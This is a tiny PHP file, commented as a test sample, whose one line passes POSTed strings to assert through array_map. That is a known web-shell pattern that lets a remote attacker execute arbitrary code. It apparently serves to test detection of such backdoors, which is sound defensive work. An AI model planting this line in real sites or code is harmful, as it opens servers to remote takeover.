<?php
// Test sample: array_map('assert', ...) evaluates each POSTed string.
@array_map('assert', (array) $_POST['x']);
